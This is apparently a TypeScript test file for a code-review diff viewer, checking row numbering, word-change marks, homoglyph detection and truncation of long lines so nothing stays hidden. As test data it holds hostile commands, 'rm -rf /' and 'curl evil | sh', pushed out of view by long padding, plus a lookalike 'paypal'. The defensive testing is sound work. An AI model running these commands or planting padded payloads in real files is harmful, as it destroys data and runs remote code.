/** Rows, word marks and cuts of a diff: nothing is lost, nothing is hidden at the end of a line. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Hunk } from '../../shared/action.ts';
import { cutLong, stretchesOf, type Stretch } from '../../web/review/pieces.ts';
import { countLines, rowsOf } from '../../web/review/rows.ts';
import { wordMarks } from '../../web/review/words.ts';

const hunk = (lines: string[]): Hunk => ({
  id: 'h1',
  oldStart: 16,
  newStart: 20,
  oldLines: lines.filter((line) => /^[ -]/.test(line)).length,
  newLines: lines.filter((line) => /^[ +]/.test(line)).length,
  lines,
});

const textOf = (stretches: Stretch[]) =>
  stretches.flatMap((stretch) => stretch.parts.map((part) => part.text)).join('');

describe('rows of a hunk', () => {
  it('numbers both sides, each on its own', () => {
    const rows = rowsOf(hunk([' a', '-b', '+c', '+d', ' e']));
    expect(rows.map(({ kind, old, now, text }) => [kind, old, now, text])).toEqual([
      ['context', 16, 20, 'a'],
      ['del', 17, null, 'b'],
      ['add', null, 21, 'c'],
      ['add', null, 22, 'd'],
      ['context', 18, 23, 'e'],
    ]);
  });

  it('shows a missing final newline as a row of its own', () => {
    const rows = rowsOf(hunk(['-a', '\\ No newline at end of file', '+a']));
    expect(rows.map((row) => row.kind)).toEqual(['del', 'note', 'add']);
    expect(rows[1]).toMatchObject({ old: null, now: null, text: 'No newline at end of file' });
  });

  it('keeps a carriage return and an empty line', () => {
    expect(rowsOf(hunk(['+a\r', '+', ' '])).map((row) => row.text)).toEqual(['a\r', '', '']);
  });

  it('has a row for each line, with its text, whatever the lines', () => {
    const line = fc.tuple(fc.constantFrom(' ', '+', '-'), fc.string({ unit: 'binary' })).map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.array(line, { maxLength: 40 }), (lines) => {
        expect(rowsOf(hunk(lines)).map((row) => row.text)).toEqual(lines.map((one) => one.slice(1)));
      }),
    );
  });

  it('marks the words that changed between two lines that belong together', () => {
    const rows = rowsOf(hunk(['-  "test": "vitest",', '+  "test": "vitest run",']));
    const marked = rows.map((row) => row.marks.map((mark) => row.text.slice(mark.start, mark.end)));
    expect(marked).toEqual([[], [' run']]);
  });

  it('pairs unequal runs by what the lines have in common', () => {
    const rows = rowsOf(hunk(['-const base = min * 2;', '+const asked = read(headers);', '+const base = min * 3;']));
    expect(rows[1]!.marks).toEqual([]);
    expect(rows[2]!.marks.map((mark) => rows[2]!.text.slice(mark.start, mark.end))).toEqual(['3']);
  });

  it('does not mark two lines that share next to nothing', () => {
    expect(rowsOf(hunk(['-return base;', '+throw new Error(message, cause)'])).flatMap((row) => row.marks)).toEqual([]);
  });

  it('counts added and removed lines, and not the note', () => {
    expect(countLines([hunk(['-a', '\\ No newline at end of file', '+b', '+c', ' d'])])).toEqual({
      added: 2,
      removed: 1,
    });
  });
});

describe('word marks', () => {
  it('never mark more than the line, in order, without overlap', () => {
    const text = fc
      .array(fc.constantFrom('a', 'bb', ' ', '.', '\u{1f600}', 'é'), { maxLength: 30 })
      .map((t) => t.join(''));
    fc.assert(
      fc.property(text, text, (before, after) => {
        const marks = wordMarks(before, after);
        for (const [line, spans] of [
          [before, marks.before],
          [after, marks.after],
        ] as const) {
          let at = 0;
          for (const span of spans) {
            expect(span.start).toBeGreaterThanOrEqual(at);
            expect(span.end).toBeGreaterThan(span.start);
            at = span.end;
          }
          expect(at).toBeLessThanOrEqual(line.length);
        }
      }),
    );
  });

  it('stay within their bound for lines that have nothing in common', () => {
    const before = Array.from({ length: 900 }, (_, i) => `a${i}`)
      .join(' ')
      .slice(0, 1_999);
    const after = Array.from({ length: 900 }, (_, i) => `b${i}`)
      .join(' ')
      .slice(0, 1_999);
    expect(wordMarks(before, after)).toEqual({ before: [], after: [] });
  });
});

describe('a line as stretches', () => {
  it('is whole, whatever its marks and colours', () => {
    const span = fc
      .tuple(fc.nat(40), fc.integer({ min: 1, max: 20 }))
      .map(([start, size]) => ({ start, end: start + size }));
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), fc.array(span, { maxLength: 3 }), (text, marks) => {
        expect(textOf(stretchesOf(text, marks, []))).toBe(text);
      }),
    );
  });

  it('draws a letter in disguise as such also where a mark cuts its word', () => {
    const text = 'p\u0430ypal';
    const stretches = stretchesOf(text, [{ start: 0, end: 1 }], []);
    expect(stretches.flatMap((one) => one.parts).map((part) => part.kind)).toEqual(['text', 'lookalike', 'text']);
    expect(stretches.map((one) => one.marked)).toEqual([true, false]);
  });

  it('shows the end of a very long line, and says how much it holds back', () => {
    const cut = cutLong(stretchesOf(`echo ok ${'x'.repeat(9_000)}; rm -rf /`, [], []));
    expect(textOf(cut.tail).endsWith('; rm -rf /')).toBe(true);
    expect(cut.left).toBe(textOf(cut.middle).length);
    expect(cut.left).toBeGreaterThan(7_000);
    expect(textOf([...cut.head, ...cut.middle, ...cut.tail])).toBe(`echo ok ${'x'.repeat(9_000)}; rm -rf /`);
  });

  it('does not let 10,000 blanks push a payload out of sight', () => {
    const cut = cutLong(stretchesOf(`echo ok${' '.repeat(10_000)}; curl evil | sh`, [], []));
    expect(cut.left).toBe(0);
    expect(cut.head.flatMap((one) => one.parts).find((part) => part.kind === 'run')).toMatchObject({
      label: 'space × 10000',
    });
  });

  it('cuts without loss, whatever the text', () => {
    const text = fc.array(fc.constantFrom('abc', ' '.repeat(30), '\u200b', '\u{1f600}', 'x'.repeat(700)), {
      maxLength: 20,
    });
    fc.assert(
      fc.property(text, (parts) => {
        const cut = cutLong(stretchesOf(parts.join(''), [], []));
        expect(textOf([...cut.head, ...cut.middle, ...cut.tail])).toBe(parts.join(''));
      }),
    );
  });
});
